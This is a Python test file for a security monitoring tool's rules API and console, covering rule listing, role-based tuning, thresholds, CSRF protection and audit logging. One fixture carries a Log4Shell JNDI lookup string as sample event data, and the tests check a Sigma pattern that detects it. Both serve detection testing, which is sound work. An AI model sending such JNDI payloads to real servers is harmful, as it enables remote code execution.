"""Rules in the API and the console: the list, one rule, its tuning by role, its alerts, audit."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pytest
from fastapi import FastAPI
from tests.web.conftest import ClientAs

from bastion import audit, auth, detect
from bastion.alerts import record_alerts
from bastion.demo.detection import install_demo_rules
from bastion.store import Store

pytestmark = pytest.mark.anyio

LOG4SHELL = "451b3c28-3fed-4081-aef7-5230e65f58a7"
DENIED = "393476c2-0ece-4684-84ff-b69312d4d00e"
PORT_SCAN = "3fcd8676-f0f7-4678-bd5c-21c3b998b912"
NOW = datetime.now(UTC).replace(microsecond=0)


def rule_hit(org: str, host: str, key: str, seen: datetime) -> dict[str, Any]:
    return {
        "organization.id": org,
        "host.ip": host,
        "@timestamp": seen,
        "kind": "rule",
        "key": key,
        "title": "rule alert",
        "severity": "high",
        "blocked": False,
        "indicator.type": "sigma-rule",
        "indicator.value": key,
        "indicator.source": "sigma",
        "indicator.threat": "",
        "event.original": "GET /?x=${jndi:ldap://x/a} <b>raw</b>",
        "log.file.path": "/l",
        "log.offset": 1,
        "event.dataset": "zeek.http",
    }


@pytest.fixture
def rules_dir(app: FastAPI) -> Path:
    folder: Path = app.state.settings.rules_dir
    install_demo_rules(folder)
    return folder


@pytest.fixture
def rule_alerts(store: Store, rules_dir: Path) -> None:
    """Log4Shell: two recent alerts at RAL, one at RJ1, one at RAL ten days old; a port scan."""
    scan_key = f"sigma:{PORT_SCAN} " + json.dumps({"src_ip": "198.51.100.7"})
    events = [
        rule_hit("RAL", "10.20.1.5", f"sigma:{LOG4SHELL}", NOW - timedelta(hours=1)),
        rule_hit("RAL", "10.20.1.6", f"sigma:{LOG4SHELL}", NOW - timedelta(hours=2)),
        rule_hit("RJ1", "10.30.1.5", f"sigma:{LOG4SHELL}", NOW - timedelta(hours=3)),
        rule_hit("RAL", "10.20.1.7", f"sigma:{LOG4SHELL}", NOW - timedelta(days=10)),
        rule_hit("RJ1", "10.30.1.9", scan_key, NOW - timedelta(hours=1)),
    ]
    with store.session() as session:
        record_alerts(session, pl.DataFrame(events))


def by_id(page: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {r["id"]: r for r in page["items"]}


async def test_the_list_holds_every_rule_and_correlation_with_its_alerts(
    client: httpx.AsyncClient, rule_alerts: None
) -> None:
    page = (await client.get("/api/v1/rules")).json()
    rules = by_id(page)
    assert page["total"] == 6  # three Sigma rules and the three built-in checks
    assert rules["builtin:port-scan"]["kind"] == "builtin"
    assert rules[LOG4SHELL]["logsource"] == "category: webserver"
    assert rules[LOG4SHELL]["level"] == "high"
    assert rules[LOG4SHELL]["sigma_status"] == "test"
    assert rules[LOG4SHELL]["alerts_7d"] == 3  # the ten-day-old one is outside the window
    assert rules[PORT_SCAN]["kind"] == "correlation"
    assert rules[PORT_SCAN]["logsource"] == "correlation: value_count"
    assert rules[PORT_SCAN]["alerts_7d"] == 1  # its group's key counts for the correlation
    assert rules[DENIED]["alerts_7d"] == 0
    assert {r["state"] for r in page["items"]} == {"enabled"}


async def test_a_member_counts_only_its_own_alerts(client_as: ClientAs, rule_alerts: None) -> None:
    async with client_as("lead") as lead:
        rules = by_id((await lead.get("/api/v1/rules")).json())
        one = (await lead.get(f"/api/v1/rules/{LOG4SHELL}")).json()
    assert rules[LOG4SHELL]["alerts_7d"] == 2
    assert rules[PORT_SCAN]["alerts_7d"] == 0
    assert {a["org"] for a in one["recent_alerts"]} == {"RAL"}
    assert len(one["recent_alerts"]) == 3  # recent: newest first, the old one included


async def test_filters_sort_and_paging_are_the_servers(
    client: httpx.AsyncClient, rules_dir: Path
) -> None:
    async def ids(**params: Any) -> list[str]:
        page = (await client.get("/api/v1/rules", params=params)).json()
        return [r["id"] for r in page["items"]]

    assert await ids(kind="correlation") == [PORT_SCAN]
    assert await ids(level="high", kind="rule") == [LOG4SHELL]
    assert set(await ids(level="high")) == {
        LOG4SHELL,
        "builtin:exfiltration",
        "builtin:log4shell-probe",
    }
    assert await ids(search="LOG4SHELL", kind="rule") == [LOG4SHELL]
    assert await ids(search="t1595") == [PORT_SCAN]  # tags are searched too
    assert await ids(logsource="firewall") == [DENIED]
    sigma = {LOG4SHELL, PORT_SCAN, DENIED}
    assert [i for i in await ids(sort="level") if i in sigma] == [LOG4SHELL, PORT_SCAN, DENIED]
    assert [i for i in await ids(sort="title") if i in sigma] == [DENIED, LOG4SHELL, PORT_SCAN]
    second = (await client.get("/api/v1/rules", params={"limit": 1, "offset": 1})).json()
    assert (second["total"], [r["id"] for r in second["items"]]) == (6, (await ids())[1:2])
    for bad in ({"level": "severe"}, {"sort": "colour"}, {"state": "maybe"}, {"limit": 0}):
        assert (await client.get("/api/v1/rules", params=bad)).status_code == 422, bad


async def test_a_rule_shows_its_yaml_fields_and_attack_tags(
    client: httpx.AsyncClient, rules_dir: Path
) -> None:
    rule = (await client.get(f"/api/v1/rules/{LOG4SHELL}")).json()
    assert "cs-user-agent|contains: '${jndi:'" in rule["yaml"]
    assert rule["attack"] == ["attack.initial-access", "attack.t1190"]
    assert "cve.2021-44228" in rule["tags"]
    assert rule["fields"] == ["url.full", "user_agent.original"]
    assert rule["file"] == "log4shell_probe.yml"
    scan = (await client.get(f"/api/v1/rules/{PORT_SCAN}")).json()
    assert scan["references"] == ["bastion_denied_connection"]
    assert scan["fields"] == ["src_ip", "dst_ip", "dst_port"]
    assert "type: value_count" in scan["yaml"]
    missing = await client.get("/api/v1/rules/no-such-rule")
    assert missing.status_code == 404


async def test_national_roles_switch_globally_and_per_organisation_audited(
    client_as: ClientAs, store: Store, rules_dir: Path
) -> None:
    async with client_as("analyst") as analyst:
        off = await analyst.put(f"/api/v1/rules/{LOG4SHELL}/tuning", json={"enabled": False})
        per_org = await analyst.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "rj1"}
        )
        unknown_org = await analyst.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "ZZZ9"}
        )
        unknown_rule = await analyst.put("/api/v1/rules/nope/tuning", json={"enabled": False})
        bad_org = await analyst.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "no code!"}
        )
    assert (off.status_code, off.json()["state"]) == (200, "disabled")
    assert (per_org.status_code, per_org.json()["disabled_for"]) == (200, ["RJ1"])
    assert (unknown_org.status_code, unknown_rule.status_code, bad_org.status_code) == (
        404,
        404,
        422,
    )
    with store.session() as session:
        tuning = detect.load_tuning(session)
        events, _ = audit.list_events(session, action="rule.")
    assert tuning.disabled == {LOG4SHELL}
    assert tuning.disabled_for == {(DENIED, "RJ1")}
    assert [(e.action, e.target, e.org, e.before, e.after) for e in reversed(events)] == [
        ("rule.disable", f"rule:{LOG4SHELL}", None, {"enabled": None}, {"enabled": False}),
        ("rule.disable", f"rule:{DENIED}", "RJ1", {"enabled": None}, {"enabled": False}),
    ]
    assert {e.actor for e in events} == {"user:analyst"}


async def test_a_lead_switches_a_rule_for_its_own_organisation_only(
    client_as: ClientAs, store: Store, rules_dir: Path
) -> None:
    async with client_as("lead") as lead:
        globally = await lead.put(f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False})
        own = await lead.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "RAL"}
        )
        other = await lead.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "RJ1"}
        )
        absent = await lead.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": "ZZZ9"}
        )
    async with client_as("viewer") as viewer:
        read_only = await viewer.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": True, "org": "RAL"}
        )
    assert globally.status_code == 403
    assert own.status_code == 200
    assert other.status_code == absent.status_code == 404
    # Another tenant's organisation answers as one that does not exist.
    assert other.json()["detail"].replace("RJ1", "X") == absent.json()["detail"].replace(
        "ZZZ9", "X"
    )
    assert read_only.status_code == 403
    with store.session() as session:
        assert detect.load_tuning(session).disabled_for == {(DENIED, "RAL")}


async def test_a_member_sees_only_its_own_organisations_tuning(
    client: httpx.AsyncClient, client_as: ClientAs, rules_dir: Path
) -> None:
    for org in ("RAL", "RJ1"):
        answer = await client.put(
            f"/api/v1/rules/{DENIED}/tuning", json={"enabled": False, "org": org}
        )
        assert answer.status_code == 200
    async with client_as("lead") as lead:
        rule = (await lead.get(f"/api/v1/rules/{DENIED}")).json()
        page = (await lead.get(f"/rules/{DENIED}")).text
        listed = (await lead.get("/rules")).text
    assert [t["org"] for t in rule["tuning"]] == ["RAL"]
    assert rule["disabled_for"] == ["RAL"]
    assert "RJ1" not in page
    assert "RJ1" not in listed
    assert "Off for RAL" in listed


async def test_a_write_scoped_token_switches_a_rule_for_its_organisation(
    app: FastAPI, store: Store, rules_dir: Path
) -> None:
    with store.session() as session:
        writer = auth.create_token(
            session, auth.system_principal("test"), "soar", ["detect:write"], org="RAL"
        )
        reader = auth.create_token(
            session, auth.system_principal("test"), "ro", ["detect:read"], org="RAL"
        )

    def as_token(value: str) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app),
            base_url="http://testserver",
            headers={"Authorization": f"Bearer {value}"},
        )

    body = {"enabled": False, "org": "RAL"}
    async with as_token(writer.value) as c:
        done = await c.put(f"/api/v1/rules/{LOG4SHELL}/tuning", json=body)
    async with as_token(reader.value) as c:
        refused = await c.put(f"/api/v1/rules/{LOG4SHELL}/tuning", json=body)
        listed = await c.get("/api/v1/rules")
    assert done.status_code == 200, done.text
    assert refused.status_code == 403
    assert listed.status_code == 200


async def test_the_console_list_filters_and_links_each_rule(
    client: httpx.AsyncClient, rule_alerts: None
) -> None:
    page = await client.get("/rules")
    assert page.status_code == 200
    for rule_id in (LOG4SHELL, DENIED, PORT_SCAN):
        assert f'href="/rules/{rule_id}"' in page.text
    assert 'class="tag">correlation' in page.text
    high = (await client.get("/rules", params={"level": "high"})).text
    assert LOG4SHELL in high
    assert DENIED not in high
    beyond = (await client.get("/rules", params={"page": 9})).text
    assert "There is no page 9" in beyond
    assert (await client.get("/rules", params={"sort": "colour"})).status_code == 400


async def test_the_rule_page_shows_yaml_escaped_and_links_its_alerts(
    client: httpx.AsyncClient, rule_alerts: None
) -> None:
    page = (await client.get(f"/rules/{LOG4SHELL}")).text
    assert "cs-user-agent|contains: &#39;${jndi:&#39;" in page
    assert "initial-access" in page
    assert page.count('href="/alerts/') == 4
    assert 'id="tuning-form"' in page
    assert 'name="org" type="text"' in page  # a national caller types any organisation


async def test_the_console_form_switches_a_rule_with_csrf_only(
    app: FastAPI, client_as: ClientAs, sessions: dict[str, tuple[str, str]], store: Store,
    rules_dir: Path,
) -> None:  # fmt: skip
    async with client_as("lead") as lead:
        form = (await lead.get(f"/rules/{DENIED}")).text
        done = await lead.post(f"/rules/{DENIED}/tuning", data={"enabled": "off", "org": "RAL"})
        bad = await lead.post(f"/rules/{DENIED}/tuning", data={"enabled": "maybe", "org": "RAL"})
    cookie, _ = sessions["lead"]
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app),
        base_url="http://testserver",
        cookies={"bastion_session": cookie},
    ) as no_csrf:
        forged = await no_csrf.post(f"/rules/{DENIED}/tuning", data={"enabled": "on", "org": "RAL"})
    assert '<option value="RAL">RAL</option>' in form  # a lead picks among its organisations
    assert (done.status_code, done.headers["location"]) == (303, f"/rules/{DENIED}#tuning")
    assert bad.status_code == 400
    assert forged.status_code == 403
    with store.session() as session:
        assert detect.load_tuning(session).disabled_for == {(DENIED, "RAL")}
    async with client_as("viewer") as viewer:
        seen = (await viewer.get(f"/rules/{DENIED}")).text
    assert 'id="tuning-form"' not in seen
    assert "Off for RAL" in seen


async def test_the_catalogue_follows_the_rules_folder(
    client: httpx.AsyncClient, rules_dir: Path
) -> None:
    assert (await client.get("/api/v1/rules")).json()["total"] == 6
    (rules_dir / "broken.yml").write_text(
        "title: Broken\nid: 0d0d0d0d-0000-4000-8000-000000000001\nlogsource:\n"
        "  category: dns\ndetection:\n  sel:\n    query|nosuchmodifier: x\n"
        "  condition: sel\nlevel: low\n",
        encoding="utf-8",
    )
    page = (await client.get("/api/v1/rules", params={"state": "not_run"})).json()
    assert [r["title"] for r in page["items"]] == ["Broken"]
    broken = (await client.get("/api/v1/rules/0d0d0d0d-0000-4000-8000-000000000001")).json()
    assert broken["reason"]
    assert broken["logsource"] == "category: dns"


async def test_nobody_without_detection_reads_rules(
    app: FastAPI, store: Store, rules_dir: Path
) -> None:
    with store.session() as session:
        token = auth.create_token(
            session, auth.system_principal("test"), "alerts", ["alerts:read"], org="RAL"
        )
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app),
        base_url="http://testserver",
        headers={"Authorization": f"Bearer {token.value}"},
    ) as c:
        assert (await c.get("/api/v1/rules")).status_code == 403
        assert (await c.get(f"/api/v1/rules/{LOG4SHELL}")).status_code == 403


async def test_thresholds_are_set_by_role_validated_and_audited(
    client_as: ClientAs, store: Store, rules_dir: Path
) -> None:
    url = "/api/v1/rules/builtin:port-scan/thresholds"
    async with client_as("analyst") as analyst:
        national = await analyst.put(url, json={"name": "ports", "value": 40})
        for_rj1 = await analyst.put(url, json={"name": "ports", "value": 30, "org": "rj1"})
        too_low = await analyst.put(url, json={"name": "ports", "value": 1, "org": "RJ1"})
        wrong_name = await analyst.put(url, json={"name": "bytes", "value": 60})
        sigma = await analyst.put(
            f"/api/v1/rules/{DENIED}/thresholds", json={"name": "ports", "value": 60}
        )
        missing = await analyst.put(
            "/api/v1/rules/nope/thresholds", json={"name": "ports", "value": 60}
        )
        not_a_number = await analyst.put(url, json={"name": "ports", "value": "many"})
    async with client_as("lead") as lead:  # leads RAL
        globally = await lead.put(url, json={"name": "ports", "value": 20})
        own = await lead.put(url, json={"name": "ports", "value": 20, "org": "RAL"})
        other = await lead.put(url, json={"name": "ports", "value": 20, "org": "RJ1"})
        seen = (await lead.get("/api/v1/rules/builtin:port-scan")).json()
    async with client_as("auditor") as auditor:
        read_only = await auditor.put(url, json={"name": "ports", "value": 20, "org": "RAL"})
        audited = (await auditor.get("/api/v1/rules/builtin:port-scan")).json()
    assert (national.status_code, for_rj1.status_code, own.status_code) == (200, 200, 200)
    (ports,) = for_rj1.json()["thresholds"]
    assert (ports["national"], ports["default"], ports["per_org"]) == (40, 50, {"RJ1": 30})
    assert too_low.status_code == wrong_name.status_code == sigma.status_code == 422
    assert "must be from 2 to 65,536 distinct ports, not 1" in too_low.json()["detail"]
    assert "has no threshold 'bytes'; it has: ports" in wrong_name.json()["detail"]
    assert "has no threshold to tune" in sigma.json()["detail"]
    assert (missing.status_code, not_a_number.status_code) == (404, 422)
    assert (globally.status_code, other.status_code, read_only.status_code) == (403, 404, 403)
    # A member sees the national value and its own organisation's, not another tenant's.
    assert seen["thresholds"][0]["per_org"] == {"RAL": 20}
    assert audited["thresholds"][0]["per_org"] == {"RAL": 20, "RJ1": 30}
    with store.session() as session:
        assert detect.load_tuning(session).thresholds == detect.CheckThresholds(
            national={("builtin:port-scan", "ports"): 40},
            per_org={("builtin:port-scan", "ports", "RJ1"): 30, ("builtin:port-scan", "ports", "RAL"): 20},
        )  # fmt: skip
        events, _ = audit.list_events(session, action="rule.threshold")
    assert [(e.actor, e.org, e.after) for e in reversed(events)] == [
        ("user:analyst", None, {"name": "ports", "value": 40}),
        ("user:analyst", "RJ1", {"name": "ports", "value": 30}),
        ("user:lead", "RAL", {"name": "ports", "value": 20}),
    ]
    async with client_as("analyst") as analyst:
        cleared = await analyst.put(url, json={"name": "ports", "value": None, "org": "RJ1"})
    assert cleared.json()["thresholds"][0]["per_org"] == {"RAL": 20}


async def test_the_console_form_sets_and_clears_a_threshold(
    client_as: ClientAs, store: Store, rules_dir: Path
) -> None:
    async with client_as("lead") as lead:
        form = (await lead.get("/rules/builtin:port-scan")).text
        done = await lead.post(
            "/rules/builtin:port-scan/thresholds",
            data={"name": "ports", "value": "20", "org": "RAL", "action": "set"},
        )
        page = (await lead.get("/rules/builtin:port-scan")).text
        words = await lead.post(
            "/rules/builtin:port-scan/thresholds",
            data={"name": "ports", "value": "twenty", "org": "RAL"},
        )
        huge = await lead.post(
            "/rules/builtin:port-scan/thresholds",
            data={"name": "ports", "value": "99,999", "org": "RAL"},
        )
        log4shell = (await lead.get("/rules/builtin:log4shell-probe")).text
    assert 'id="threshold-form"' in form
    assert '<option value="RAL">RAL</option>' in form
    assert (done.status_code, done.headers["location"]) == (
        303,
        "/rules/builtin:port-scan#thresholds",
    )
    assert '<span data-org="RAL">RAL 20</span>' in page
    assert (words.status_code, huge.status_code) == (400, 400)
    assert "whole number" in words.text
    assert "must be from 2 to 65,536" in huge.text
    assert 'id="thresholds"' not in log4shell  # a check with nothing to count has no threshold
    with store.session() as session:
        assert (
            detect.load_tuning(session).thresholds.value("builtin:port-scan", "ports", "RAL") == 20
        )
    async with client_as("lead") as lead:
        cleared = await lead.post(
            "/rules/builtin:port-scan/thresholds",
            data={"name": "ports", "org": "RAL", "action": "clear"},
        )
    assert cleared.status_code == 303
    async with client_as("viewer") as viewer:
        seen = (await viewer.get("/rules/builtin:port-scan")).text
    assert 'id="threshold-form"' not in seen
    assert 'id="threshold-table"' in seen
    with store.session() as session:
        assert (
            detect.load_tuning(session).thresholds.value("builtin:port-scan", "ports", "RAL") == 50
        )
        events, _ = audit.list_events(session, action="rule.threshold")
    assert [e.action for e in reversed(events)] == ["rule.threshold.set", "rule.threshold.clear"]
